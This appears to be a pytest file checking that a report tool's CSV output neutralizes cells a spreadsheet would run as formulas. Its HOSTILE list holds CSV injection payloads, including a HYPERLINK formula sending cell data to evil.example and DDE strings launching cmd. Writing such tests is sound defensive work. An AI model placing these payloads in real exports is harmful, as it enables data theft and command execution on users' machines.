"""CSV formula injection: every CSV the tool writes neutralizes text cells a spreadsheet would
run as a formula, and the store's reader gives the labels back as they were."""

from __future__ import annotations

import csv
from pathlib import Path

import pandas as pd

from ssprop_energy.reports import build_report, write_report
from ssprop_energy.store import atomic_write_csv, load_sweep
from ssprop_energy.store.checks import read_csv
from tests.support.report_store import epoch_rows, write_run

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'quoted",
]
FORMULA = ("=", "+", "-", "@", "\t", "\r")


def _cells(path: Path) -> list[str]:
    with path.open(newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def test_text_cells_are_neutralized_and_read_back_numbers_stay_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame(
        {"label": [*HOSTILE, "-", "-0.5", "plain"], "x": [-0.5] * 10, "n": range(-5, 5)}
    )
    path = atomic_write_csv(tmp_path / "t.csv", frame)
    cells = _cells(path)
    assert not [c for c in cells if c.startswith(FORMULA) and c != "-" and not _is_number(c)]
    assert sum(c.startswith("'") for c in cells) == len(HOSTILE)
    back = read_csv(path, lambda frame, path: None)
    pd.testing.assert_frame_equal(back, frame)
    assert back["x"].dtype.kind == "f" and back["n"].dtype.kind == "i"


def test_method_labels_in_the_report_csvs_cannot_run_as_formulas(tmp_path: Path) -> None:
    sweep = tmp_path / "sweep"
    for i, label in enumerate(HOSTILE[:4]):
        write_run(
            sweep, f"run{i}", method="dense" if i == 0 else "ssprop", label=label, seed=i,
            epochs=epoch_rows(f"run{i}", [0.5, 0.6], 100.0, 20.0, 8.0, 1e9, 1.0),
        )  # fmt: skip
    written = write_report(build_report([sweep]), tmp_path / "out")
    csvs = [p for p in written if p.suffix == ".csv"]
    assert {p.name for p in csvs} >= {"summary.csv", "methods.csv"}
    for path in csvs:
        bad = [c for c in _cells(path) if c.startswith(FORMULA) and c != "-"]
        assert not [c for c in bad if not _is_number(c)], path
    summary = read_csv(tmp_path / "out" / "summary.csv", lambda frame, path: None)
    assert set(summary["method_label"]) == set(HOSTILE[:4])
    assert {r.meta.method_label for r in load_sweep(sweep)} == set(HOSTILE[:4])


def _is_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True
